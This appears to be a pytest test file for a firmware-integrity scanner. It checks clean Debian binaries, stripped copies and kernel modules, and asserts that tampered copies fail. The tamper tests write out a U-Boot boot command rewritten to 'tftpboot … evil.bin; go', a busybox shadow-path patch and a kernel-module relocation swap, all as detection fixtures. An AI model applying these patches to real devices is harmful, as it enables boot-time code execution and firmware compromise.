"""Clean controls for the byte-exact comparison: real Debian binaries and firmware, inventoried then scanned as
shipped, and stripped copies scanned against the unstripped manifest, must all pass (no false reject); and two
data-only changes in real firmware (busybox's shadow path, U-Boot's default boot command) must fail.

The two real-firmware tampers are not run: booting U-Boot into a TFTP server, or running busybox as root against
/etc/shadow, is out of reach here; tests/firmware/test_loaded_bytes.py runs the same classes of change in a gcc
build to show they take effect.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.firmware import builders
from tests.firmware.conftest import debian_file
from verifier.firmware.inventory import build_manifest
from verifier.model import Finding, Status, judge
from verifier.workflows.firmware_scan import scan_firmware

SHIPPED = [
    "/bin/busybox",
    "/usr/lib/u-boot/qemu_arm64/uboot.elf",
    "/usr/lib/u-boot/qemu_arm/uboot.elf",
    "/usr/lib/u-boot/qemu-x86_64/uboot.elf",
    "/usr/lib/u-boot/qemu-riscv64/uboot.elf",
    "/usr/share/OVMF/OVMF_CODE.fd",
    "/usr/share/qemu-efi-aarch64/QEMU_EFI.fd",
    "/usr/lib/shim/shimx64.efi.signed",
    "/usr/lib/grub/x86_64-efi-signed/grubx64.efi.signed",
    "/usr/libexec/fwupd/efi/fwupdx64.efi.signed",
    "/usr/lib/ipxe/qemu/efi-e1000.rom",
    "/usr/lib/ipxe/qemu/efi-virtio.rom",
]
#: ELF images that ship unstripped or whose stripped copy still runs: stripped here and scanned against the original
STRIPPABLE = ["/bin/busybox", "/usr/lib/u-boot/qemu_arm64/uboot.elf", "/usr/lib/u-boot/qemu_arm/uboot.elf",
              "/usr/lib/u-boot/qemu-x86_64/uboot.elf", "/usr/lib/u-boot/qemu-riscv64/uboot.elf"]


def _not_passed(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.status in (Status.FAIL, Status.ERROR)]


def _manifest(path: Path) -> dict[str, Any]:
    return build_manifest(path).to_predicate()


def _kernel_module(name: str) -> Path:
    modules = sorted(Path("/lib/modules").glob(f"*/kernel/drivers/net/{name}"))
    if not modules:
        pytest.skip("no linux-image kernel module installed (Debian linux-image-amd64)")
    return modules[0]


def _strip(image: Path, out: Path) -> Path:
    """strip for the host's ELF; llvm-strip for the other architectures (binutils' strip only knows its own)."""
    for tool in ("strip", "llvm-strip", "llvm-strip-14"):
        if shutil.which(tool) and subprocess.run([tool, "-o", str(out), str(image)], capture_output=True,
                                                 check=False).returncode == 0:
            return out
    pytest.skip(f"no strip that reads {image.name} (Debian llvm)")


@pytest.mark.parametrize("path", SHIPPED)
def test_shipped_image_scans_clean_against_its_own_manifest(path: str) -> None:
    image = debian_file(path)
    findings = scan_firmware(image, manifest=_manifest(image))
    assert judge(findings).value == "pass", _not_passed(findings)


@pytest.mark.parametrize("path", STRIPPABLE)
def test_stripped_copy_scans_clean_byte_exact_against_the_unstripped_manifest(path: str, tmp_path: Path) -> None:
    image = debian_file(path)
    stripped = _strip(image, tmp_path / f"{image.name}.stripped")
    findings = scan_firmware(stripped, manifest=_manifest(image))
    assert judge(findings).value == "pass", _not_passed(findings)
    mode = [f for f in findings if f.check == "firmware.comparison-mode"]
    assert mode and mode[0].evidence["mode"] == "byte-exact"
    assert any(f.check == "firmware.loaded-bytes" and f.status is Status.PASS for f in findings)


@pytest.mark.parametrize("name", ["dummy.ko", "veth.ko"])
def test_kernel_module_and_its_debug_stripped_copy(name: str, tmp_path: Path) -> None:
    """A module's loaded bytes are its SHF_ALLOC sections. Stripping also drops the appended signature, which is
    reported as such (firmware.module-signature) and is the only difference."""
    module = _kernel_module(name)
    manifest = _manifest(module)
    assert judge(scan_firmware(module, manifest=manifest)).value == "pass"
    stripped = tmp_path / f"{name}.stripped"
    subprocess.run(["strip", "--strip-debug", "-o", str(stripped), str(module)], check=True)
    findings = scan_firmware(stripped, manifest=manifest)
    assert {f.check for f in _not_passed(findings)} <= {"firmware.module-signature"}, _not_passed(findings)
    assert any(f.check == "firmware.loaded-bytes" and f.status is Status.PASS for f in findings)


def test_busybox_shadow_path_rewritten_is_changed_data(tmp_path: Path) -> None:
    image = debian_file("/bin/busybox")
    tampered = builders.replace_bytes(image, tmp_path / "busybox.shadow_path_rewritten", b"/etc/shadow\0",
                                      b"/tmp/shadow\0")
    findings = scan_firmware(tampered, manifest=_manifest(image))
    data = [f for f in findings if f.check == "firmware.changed-data" and f.status is Status.FAIL]
    assert data and data[0].evidence["regions"][0]["section"] == ".rodata", findings
    assert not [f for f in findings if f.check == "firmware.changed-function" and f.status is Status.FAIL]


@pytest.mark.parametrize("board", ["qemu_arm64", "qemu_arm"])
def test_uboot_default_bootcmd_rewritten_to_tftpboot_and_go(board: str, tmp_path: Path) -> None:
    image = debian_file(f"/usr/lib/u-boot/{board}/uboot.elf")
    old = b"distro_bootcmd=scsi_need_init=; setenv nvme_need_init; virtio_need_init=;"
    if old not in image.read_bytes():
        pytest.skip(f"{board}'s default environment has another distro_bootcmd")
    new = b"distro_bootcmd=tftpboot 0x40400000 evil.bin; go 0x40400000;".ljust(len(old), b" ")
    tampered = builders.replace_bytes(image, tmp_path / f"{board}.bootcmd_rewritten.elf", old, new)
    findings = scan_firmware(tampered, manifest=_manifest(image))
    data = [f for f in findings if f.check == "firmware.changed-data" and f.status is Status.FAIL]
    assert data, [f for f in findings if f.status is not Status.PASS]
    assert judge(findings).value == "fail"


def test_kernel_module_init_relocation_retargeted_is_changed_control_flow(tmp_path: Path) -> None:
    """Not loaded here (that needs root and this very kernel): the two relocations that fill this_module's init and
    exit pointers swap symbols, so loading would run the exit routine as init. No SHF_ALLOC byte changes; the
    relocations are declared per target section."""
    import struct

    import lief

    module = _kernel_module("dummy.ko")
    manifest = _manifest(module)
    section = lief.parse(str(module)).get_section(".rela.gnu.linkonce.this_module")
    assert section is not None and int(section.size) >= 48
    data = bytearray(module.read_bytes())
    first, second = int(section.offset) + 8, int(section.offset) + 24 + 8  # r_info of entries 0 and 1
    info_a, info_b = struct.unpack_from("<Q", data, first)[0], struct.unpack_from("<Q", data, second)[0]
    assert info_a >> 32 != info_b >> 32
    struct.pack_into("<Q", data, first, (info_b & ~0xFFFFFFFF) | (info_a & 0xFFFFFFFF))
    struct.pack_into("<Q", data, second, (info_a & ~0xFFFFFFFF) | (info_b & 0xFFFFFFFF))
    tampered = tmp_path / "dummy.init_relocation_retargeted.ko"
    tampered.write_bytes(bytes(data))
    findings = scan_firmware(tampered, manifest=manifest)
    control = [f for f in findings if f.check == "firmware.changed-control-flow" and f.status is Status.FAIL]
    assert control and control[0].evidence["changes"][0]["table"].startswith(
        "relocations of .gnu.linkonce.this_module"), findings
